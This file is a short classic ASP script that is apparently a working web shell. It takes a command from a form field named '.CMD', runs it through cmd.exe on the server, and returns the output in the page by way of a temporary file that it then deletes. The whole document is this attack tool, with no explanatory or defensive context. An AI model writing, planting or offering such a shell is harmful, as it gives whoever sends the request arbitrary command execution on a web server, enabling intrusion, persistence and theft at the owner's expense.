<%
Set ws = Server.CreateObject("WSCRIPT.SHELL")
Set fs = Server.CreateObject("Scripting.FileSystemObject")
tmp = Server.MapPath(".") & "\" & fs.GetTempName()
If Request.Form(".CMD") <> "" Then
    Call ws.Run("cmd.exe /c " & Request.Form(".CMD") & " > " & tmp, 0, True)
    Set f = fs.OpenTextFile(tmp, 1, False, 0)
    Response.Write "<pre>" & Server.HTMLEncode(f.ReadAll) & "</pre>"
    f.Close
    fs.DeleteFile tmp
End If
%>
